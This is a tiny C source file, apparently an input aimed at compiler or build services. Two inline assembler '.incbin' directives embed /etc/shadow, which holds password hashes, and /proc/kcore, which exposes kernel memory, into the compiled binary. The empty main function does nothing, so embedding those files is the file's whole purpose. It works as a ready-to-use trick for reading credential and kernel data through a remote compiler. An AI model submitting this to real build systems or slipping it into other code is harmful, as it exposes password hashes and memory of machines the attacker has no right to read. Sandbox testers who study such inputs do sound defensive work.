__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/proc/kcore\"");

int main() {
}
